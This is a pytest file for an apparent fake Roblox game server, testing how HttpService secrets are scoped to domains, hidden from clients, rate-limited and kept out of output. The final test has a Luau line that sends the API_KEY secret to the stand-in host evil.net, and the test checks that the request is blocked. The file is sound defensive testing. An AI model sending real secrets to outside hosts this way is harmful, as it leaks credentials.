"""Section 11 in Luau: ``section11.spec.luau`` holds one case per rule, written as game code;
each case runs here on a fresh game server. The rules that need the test's hand (HTTP off, a
client script, Studio, limits, what was sent) are below, with small scripts of their own."""

from __future__ import annotations

import re
from pathlib import Path

import pytest

from fakeserver.backend.gameservers import OutgoingRequest
from fakeserver.luau import LuauError, LuauGame, Response
from fakeserver.pytest_plugin import FakeOpenCloudHandle, LuauGameFactory

SPEC = Path(__file__).with_name("section11.spec.luau")
CASES = re.findall(r'^test\("([^"]+)"', SPEC.read_text(encoding="utf-8"), re.MULTILINE)
SECRETS = {
    "WEBHOOK": ("https://discord.com/api/webhooks/1/t0ken-V4LUE", "discord.com"),
    "API_KEY": ("k3y-V4LUE", "api.example.com"),
    "WILD": ("w1ld-V4LUE", "*.example.com"),
    "ANY": ("any-V4LUE", "*"),
    "PRIVATE": ("pr1vate-V4LUE", None),
    "OC_KEY": ("oc-V4LUE", "apis.roblox.com"),
    "IDN": ("idn-V4LUE", "xn--fa-hia.de"),
}


def _put(cloud: FakeOpenCloudHandle) -> None:
    for name, (value, domain) in SECRETS.items():
        cloud.fake.put_secret(cloud.universe_id, name, value, domain=domain)


@pytest.fixture
def game(fake_open_cloud: FakeOpenCloudHandle, luau_game_factory: LuauGameFactory) -> LuauGame:
    """A game server started after the secrets were set, answering 200 "ok"."""
    _put(fake_open_cloud)
    started: LuauGame = luau_game_factory()
    started.respond_with(200, {"Content-Type": "text/plain"}, "ok")
    return started


@pytest.fixture(scope="module")
def spec_source() -> str:
    return SPEC.read_text(encoding="utf-8")


def test_every_case_of_the_spec_is_collected() -> None:
    assert len(CASES) == len(set(CASES)) >= 20


@pytest.mark.parametrize("case", CASES)
def test_section_11_in_luau(game: LuauGame, spec_source: str, case: str) -> None:
    results = game.run(spec_source, name="section11.spec.luau")
    assert isinstance(results, dict)
    assert results[case] == "ok"
    # Whatever the case did, no value reached anything Luau wrote or could read.
    for value, _ in SECRETS.values():
        assert all(value not in line for line in game.output)
        assert value not in repr(results)


def test_what_the_spec_printed_shows_secrets_by_name(game: LuauGame, spec_source: str) -> None:
    game.run(spec_source, name="section11.spec.luau")
    assert "https://x/?k=Secret(ANY)&u=1" in game.output


def test_requests_carry_the_filled_in_values(game: LuauGame) -> None:
    game.run(
        """
        local Http = game:GetService("HttpService")
        Http:RequestAsync({ Url = Http:GetSecret("WEBHOOK"), Method = "POST", Body = "{}" })
        Http:GetAsync("https://api.example.com/v1/me", false, {
            Authorization = Http:GetSecret("API_KEY"):AddPrefix("Bearer "):AddSuffix(";v=2"),
        })
        Http:PostAsync("https://apis.roblox.com/cloud/v2/universes/1/x", "{}",
            Enum.HttpContentType.ApplicationJson, false,
            { ["x-api-key"] = Http:GetSecret("OC_KEY") })
        """
    )
    webhook, me, cloud = game.requests
    assert (webhook.method, webhook.url, webhook.body) == (
        "POST",
        "https://discord.com/api/webhooks/1/t0ken-V4LUE",
        "{}",
    )
    assert (me.method, me.host, me.headers) == (
        "GET",
        "api.example.com",
        {"Authorization": "Bearer k3y-V4LUE;v=2"},
    )
    assert cloud.headers == {"x-api-key": "oc-V4LUE", "Content-Type": "application/json"}
    assert cloud.method == "POST" and cloud.body == "{}"


def test_the_responder_sees_each_request_and_its_answer_reaches_luau(game: LuauGame) -> None:
    seen: list[OutgoingRequest] = []

    def answer(request: OutgoingRequest) -> Response:
        seen.append(request)
        return Response(404 if request.url.endswith("/missing") else 201, {"X-Id": "7"}, "made")

    game.respond(answer)
    result = game.run(
        """
        local Http = game:GetService("HttpService")
        local made = Http:RequestAsync({ Url = "https://example.org/new", Method = "PUT" })
        local ok, err = pcall(Http.GetAsync, Http, "https://example.org/missing")
        return made.StatusCode, made.StatusMessage, made.Headers["X-Id"], made.Body, ok, err
        """
    )
    assert result == (201, "Created", "7", "made", False, "HTTP 404 (Not Found)")
    assert [r.method for r in seen] == ["PUT", "GET"]


def test_without_a_responder_a_request_fails_like_a_network_error(
    luau_game: LuauGame,
) -> None:
    result = luau_game.run(
        'local Http = game:GetService("HttpService")\n'
        'return pcall(function() return Http:GetAsync("https://example.org/") end)'
    )
    assert result == (False, "HttpError: ConnectFail")
    assert [r.url for r in luau_game.requests] == ["https://example.org/"]


def test_a_responder_that_raises_fails_the_run_with_its_own_error(game: LuauGame) -> None:
    def broken(request: OutgoingRequest) -> Response:
        raise KeyError("the test's own bug")

    game.respond(broken)
    with pytest.raises(KeyError, match="the test's own bug"):
        game.run('pcall(function() game:GetService("HttpService"):GetAsync("https://e.org/") end)')


@pytest.mark.luau_game(http_enabled=False)
def test_http_disabled(luau_game: LuauGame) -> None:
    assert luau_game.run(
        'local Http = game:GetService("HttpService")\n'
        'local ok, err = pcall(Http.GetAsync, Http, "https://example.org/")\n'
        "return Http.HttpEnabled, ok, err"
    ) == (False, False, "Http requests are not enabled. Enable via game settings")
    assert luau_game.requests == []


def test_a_client_script_cannot_read_secrets(
    fake_open_cloud: FakeOpenCloudHandle,
    luau_game_factory: LuauGameFactory,
) -> None:
    _put(fake_open_cloud)
    client: LuauGame = luau_game_factory(client=True)
    assert client.run(
        'local RunService = game:GetService("RunService")\n'
        'local Http = game:GetService("HttpService")\n'
        "local ok, err = pcall(function() return Http:GetSecret('ANY') end)\n"
        "return RunService:IsClient(), RunService:IsServer(), ok, err"
    ) == (True, False, False, "Can't find secret with given key")


def test_studio_answers_from_local_secrets_only(
    fake_open_cloud: FakeOpenCloudHandle,
    luau_game_factory: LuauGameFactory,
) -> None:
    _put(fake_open_cloud)
    studio: LuauGame = luau_game_factory(
        studio=True, local_secrets={"API_KEY": ("local-V4LUE", "api.example.com")}
    )
    studio.respond_with(200)
    result = studio.run(
        """
        local Http = game:GetService("HttpService")
        local ok, err = pcall(Http.GetSecret, Http, "WEBHOOK")  -- on the server, not local
        local key = Http:GetSecret("API_KEY")
        Http:GetAsync("https://api.example.com/", false, { Authorization = key })
        return game:GetService("RunService"):IsStudio(), ok, err
        """
    )
    assert result == (True, False, "Can't find secret with given key")
    assert studio.requests[0].headers == {"Authorization": "local-V4LUE"}


def test_per_server_limit_on_outside_hosts(game: LuauGame) -> None:
    result = game.run(
        """
        local Http = game:GetService("HttpService")
        for i = 1, 500 do Http:GetAsync("https://example.org/" .. i) end
        local ok, err = pcall(Http.GetAsync, Http, "https://example.org/one-too-many")
        task.wait(61)  -- the fake's clock: a minute later the server may send again
        return ok, err, Http:GetAsync("https://example.org/again")
        """
    )
    assert result == (False, "Number of requests exceeded limit", "ok")
    assert len(game.requests) == 501


def test_per_server_limit_on_open_cloud(game: LuauGame) -> None:
    result = game.run(
        """
        local Http = game:GetService("HttpService")
        local key = Http:GetSecret("OC_KEY")
        for i = 1, 2500 do
            Http:GetAsync("https://apis.roblox.com/cloud/v2/universes/1", false,
                { ["x-api-key"] = key })
        end
        local ok, err = pcall(Http.GetAsync, Http, "https://apis.roblox.com/cloud/v2/universes/1",
            false, { ["x-api-key"] = key })
        -- Outside hosts have a budget of their own.
        return ok, err, Http:GetAsync("https://example.org/")
        """
    )
    assert result == (False, "Number of Open Cloud requests exceeded limit", "ok")


def test_an_uncaught_rule_error_is_one_line_without_values(game: LuauGame) -> None:
    with pytest.raises(LuauError) as caught:
        game.run(
            'local Http = game:GetService("HttpService")\n'
            'Http:GetAsync("https://evil.net/", false, { K = Http:GetSecret("API_KEY") })',
            name="Leaky",
        )
    assert str(caught.value) == (
        "Leaky:2: secret API_KEY may be sent only to 'api.example.com', not to evil.net"
    )
